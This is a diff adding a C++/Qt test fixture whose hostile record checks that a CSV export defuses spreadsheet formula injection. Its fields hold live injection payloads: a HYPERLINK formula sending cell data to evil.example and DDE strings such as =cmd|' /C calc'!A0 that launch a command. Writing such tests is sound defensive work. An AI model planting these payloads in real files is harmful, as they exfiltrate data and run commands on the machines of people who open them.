@@ -83,6 +83,39 @@ inline QList<ResourceDraft> exportSample()
     return {a, b, c};
 }
 
+// Values a hostile department can import and that a spreadsheet would run as formulas if a CSV
+// export wrote them as they are (OWASP CSV injection), and values that already start with the
+// quote the export adds, which must come back exactly as well. With `whitespace`, also values that
+// start with a tab or a carriage return (the importer trims those in every format).
+inline QList<ResourceDraft> hostileSample(bool whitespace = false)
+{
+    ResourceDraft d = exportSample().at(1);
+    d.id = QStringLiteral("01900000-0000-7000-8000-000000000004");
+    d.name = QStringLiteral("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击查看\")");
+    d.abstract = QStringLiteral("=cmd|' /C calc'!A0");
+    d.internalUnit = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
+    d.shareCondition = QStringLiteral("+1+cmd|' /C calc'!A0");
+    d.openCondition = QStringLiteral("-2+3+cmd|' /C calc'!A0");
+    d.businessItems = QStringLiteral("'=已带引号的值");
+    d.updateCycleOther = QStringLiteral("''+两个引号");
+    if (whitespace) {
+        d.formatOtherDesc = QStringLiteral("\t制表符开头");
+    }
+    const QStringList names = {QStringLiteral("=1+1"),  QStringLiteral("-5"),     QStringLiteral("'-5"),
+                               QStringLiteral("-"),     QStringLiteral("'"),      QStringLiteral("'abc"),
+                               QStringLiteral("@姓名"), QStringLiteral("+86电话")};
+    for (qsizetype i = 0; i < names.size(); ++i) {
+        ItemDraft item = ItemDraft::of(names.at(i), QStringLiteral("C"), QStringLiteral("50"));
+        item.id = QStringLiteral("hostile-item-%1").arg(i + 1);
+        d.items << item;
+    }
+    if (whitespace) {
+        d.items << ItemDraft::of(QStringLiteral("\r回车开头"), QStringLiteral("C"));
+        d.items.last().id = QStringLiteral("hostile-item-cr");
+    }
+    return {d};
+}
+
 inline QHash<QString, QString> exportSampleBases()
 {
     return {
